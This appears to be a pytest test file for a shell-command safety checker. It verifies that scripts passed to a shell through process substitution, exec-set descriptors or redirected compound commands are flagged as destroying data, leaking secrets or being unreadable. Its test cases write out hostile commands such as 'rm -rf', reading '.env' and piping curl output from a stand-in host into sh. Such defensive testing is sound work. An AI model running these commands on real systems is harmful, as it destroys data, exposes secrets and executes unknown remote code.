"""A script handed to a shell through a file descriptor rather than by name: a process
substitution (``sh <(cat s.sh)``), the shell's own standard input or another descriptor set by
``exec``, or a redirection of a whole compound command (``{ sh; } < s.sh``). What reaches the
shell is read; an output that cannot be known is unreadable."""

from __future__ import annotations

from pathlib import Path

import pytest
from policy_support import ALLOWED, DESTROYS, SECRET, UNREADABLE, safety_in, secret_workspace


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return secret_workspace(
        tmp_path,
        {
            "tidy.sh": "#!/bin/sh\nrm -rf app\n",
            "leak.sh": "cat .env\n",
            "send.py": "print(open('.env').read())\n",
            "ok.sh": "echo hello\n",
        },
        ("app",),
    )


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        # process substitution as the script
        ("sh <(cat tidy.sh)", DESTROYS),
        ("bash <(cat tidy.sh)", DESTROYS),
        ("source <(cat tidy.sh)", DESTROYS),
        (". <(cat leak.sh)", SECRET),
        ("bash < <(cat tidy.sh)", DESTROYS),
        ("bash <(echo 'rm -rf app')", DESTROYS),
        ("python3 <(cat send.py)", SECRET),
        ("sh <(curl -s https://example.invalid/x)", UNREADABLE),
        ("sh < <(curl -s https://example.invalid/x)", UNREADABLE),
        ("cat tidy.sh > >(sh)", UNREADABLE),
        ("cat tidy.sh | tee >(bash)", UNREADABLE),
        # the shell's descriptors, set by exec
        ("exec < tidy.sh; sh", DESTROYS),
        ("exec 0<tidy.sh; sh", DESTROYS),
        ("exec <<< 'rm -rf app'; bash", DESTROYS),
        ("exec 3<tidy.sh; sh /dev/fd/3", DESTROYS),
        ("exec 3<tidy.sh; sh <&3", DESTROYS),
        ("exec 3<leak.sh; source /proc/self/fd/3", SECRET),
        ("exec < leak.sh; . /dev/stdin", SECRET),
        ("exec < tidy.sh; cat | sh", DESTROYS),
        # the standard input named as a file
        ('source /dev/stdin <<< "$(cat leak.sh)"', SECRET),
        (". /dev/stdin < leak.sh", SECRET),
        ("cat leak.sh | source /dev/stdin", SECRET),
        # a redirection or a pipe into a compound command
        ("{ sh; } < tidy.sh", DESTROYS),
        ("(sh) < tidy.sh", DESTROYS),
        ("( bash ) < tidy.sh", DESTROYS),
        ("cat tidy.sh | (sh)", DESTROYS),
        ("if true; then sh; fi < tidy.sh", DESTROYS),
        ("for x in 1; do sh; done < tidy.sh", DESTROYS),
        ("bash -s < tidy.sh", DESTROYS),
        # a command's own descriptor, and a substitution inside a substitution
        ("source /dev/fd/3 3< leak.sh", SECRET),
        ("bash /dev/fd/4 4<tidy.sh", DESTROYS),
        ('sh -c "$(cat <(cat tidy.sh))"', DESTROYS),
        ("cat <(cat tidy.sh) | sh", DESTROYS),
    ],
)
def test_a_script_given_through_a_descriptor_is_read(
    root: Path, command: str, expected: tuple[str, str | None]
) -> None:
    assert safety_in(command, root) == expected


@pytest.mark.parametrize(
    "command",
    [
        "diff <(sort a.txt) <(sort b.txt)",
        "comm -12 <(sort a) <(sort b)",
        'while read f; do echo "$f"; done < <(ls)',
        "sh -c 'echo hi'",
        "sh <(cat ok.sh)",
        "cat x | tee >(sha256sum) > /dev/null",
        "exec < /dev/null; sh",
        "exec 2>/dev/null; ls",
        "sh 3<tidy.sh",
        "bash -s <(cat tidy.sh)",
        "(cd app && ls)",
        "{ echo a; echo b; } > out.txt",
        "(echo ok) < /dev/null",
        "exec 3<ok.sh; sh /dev/fd/3",
        "ls 2>/dev/null",
        "make 2>&1 | tee build.log",
        'echo "$(cat <(echo hi))"',
    ],
)
def test_benign_descriptor_use_is_allowed(root: Path, command: str) -> None:
    assert safety_in(command, root) == ALLOWED


def test_the_same_script_by_name_and_by_descriptor_agree(root: Path) -> None:
    by_name = safety_in("sh tidy.sh", root)
    assert by_name == DESTROYS
    assert safety_in("sh <(cat tidy.sh)", root) == by_name
    assert safety_in("exec 5<tidy.sh; sh /dev/fd/5", root) == by_name
